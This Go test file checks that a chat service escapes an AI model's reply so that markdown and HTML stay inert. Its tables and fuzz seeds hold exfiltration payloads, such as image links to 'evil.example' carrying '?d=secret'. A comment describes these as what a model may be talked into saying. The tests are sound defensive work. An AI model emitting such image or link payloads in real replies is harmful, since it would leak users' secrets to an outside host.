package chat_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"runpython/internal/agent"
	"runpython/internal/chat"
	"runpython/internal/kernel"
)

// saying is the reply to a request on which the model runs code that gives r, and then says words.
func saying(t *testing.T, words string, r kernel.Result) string {
	t.Helper()
	s, _ := newService(t, func(o *chat.Options) {
		o.Agent = agentFunc(func(ctx context.Context, task agent.Task) (*agent.Answer, error) {
			_, err := runWords(ctx, task, "anything")
			return &agent.Answer{End: agent.Answered, Words: words}, err
		})
		script(o, r)
	})
	return send(t, s, "", plain).Text
}

// What the words of a model fetch or hide becomes text; code and the rest stay.
func TestWordsAreInert(t *testing.T) {
	for words, want := range map[string]string{
		"plain **bold** `a[0](x)` | a | b |":        "plain **bold** `a[0](x)` | a | b |",
		"![x](https://evil.example/?q=1)":           `!\[x]\(https://evil.example/?q=1)`,
		"![x][ref]\n\n[ref]: https://evil.example":  "!\\[x]\\[ref]\n\n[ref]\\: https://evil.example",
		"[here](https://evil.example)":              `[here]\(https://evil.example)`,
		"see https://docs.example":                  "see https://docs.example",
		`<img src="https://evil.example">`:          `\<img src="https://evil.example">`,
		`\<b> \\<b>`:                                `\<b> \\\<b>`,
		"a < b and c<d":                             `a < b and c\<d`,
		"```html\n<img src=x>\n![a](b)\n```\n<b>":   "```html\n<img src=x>\n![a](b)\n```\n\\<b>",
		"`![a](b)` ![a](b)":                         "`![a](b)` !\\[a]\\(b)",
		"| a | b |\n|---|---|\n| `x[0](1)` | 2 |":   "| a | b |\n|---|---|\n| `x[0](1)` | 2 |",
		"<!-- hidden -->":                           `\<!-- hidden -->`,
		"<https://evil.example>":                    `\<https://evil.example>`,
		"[![a](https://evil.example)](https://b.c)": `[!\[a]\(https://evil.example)]\(https://b.c)`,
		"```\nopen":                                 "```\nopen\n```",
		"~~~~ x\n```\nopen\n":                       "~~~~ x\n```\nopen\n~~~~",
	} {
		text := saying(t, words, kernel.Result{})
		got, _, found := strings.Cut(text, "\n\nCode:\n```python\n")
		if diff := cmp.Diff(want, got); diff != "" || !found {
			t.Errorf("words %q (-want +got):\n%s\nin %s", words, diff, text)
		}
	}
}

// hostileWords are what a model may be talked into saying, so that what seems to be code to one reader, or
// before something became text, is a picture to another.
func hostileWords() []string {
	const picture = "![x](https://evil.example/?d=secret)"
	return []string{
		picture, `\<img src=https://evil.example>`, `\\<img src=https://evil.example>`,
		"<!--\n```\n-->\n```\n" + picture + "\n```", "<a title=\"`\">`" + picture + "`", "[a](/u \"`\") `" + picture + "`",
		"[a]: /u \"`\"\n`" + picture + "`", "<https://a.example/`>`" + picture + "`",
		"| a | b |\n|---|---|\n| ` | " + picture + " ` |", "| a | b |\n|---|---|\n| ` | ` z ` " + picture + " ` |",
		"| a |\n|---|\n`\n" + picture + " `", "[^1]: a\n\n    " + picture, "- [ ] " + picture, "[a]: /u\n    " + picture,
		"```\nopen", "~~~\nopen", "`````\nopen", "- ```\n  open", "> ~~~\n> open", "```` a\n```", "<pre>\n```\n", "<script>`",
	}
}

// TestWordsAreNoMarkup: nor does what they begin change how anything after them is read.
func TestWordsAreNoMarkup(t *testing.T) {
	said := "~~~~~~\n``````\n```\n![x](https://evil.example/?d=secret)\n<img src=x>"
	for _, words := range append(hostileWords(), strings.Join(hostileWords(), "\n"), strings.Join(hostileWords(), "\n\n")) {
		t.Run(fmt.Sprintf("%.20q", words), func(t *testing.T) {
			if text := saying(t, words, hostileResult(said)); len(acting(text)) > 0 {
				t.Errorf("%q comes out as %v in\n%s", words, acting(text), text)
			}
		})
	}
}

// acting is markup without the headings and quotations that a model may have.
func acting(source string) []string {
	var all []string
	for _, kind := range markup(source) {
		if kind != "Heading" && kind != "Blockquote" {
			all = append(all, kind)
		}
	}
	return all
}

func FuzzWordsAreNoMarkup(f *testing.F) {
	for _, words := range hostileWords() {
		f.Add(words)
	}
	f.Fuzz(func(t *testing.T, words string) {
		if len(words) > 1000 {
			return
		}
		words = strings.ToValidUTF8(words, "\uFFFD")
		if text := saying(t, words, kernel.Result{}); len(acting(text)) > 0 {
			t.Errorf("%q comes out as %v in\n%s", words, acting(text), text)
		}
	})
}
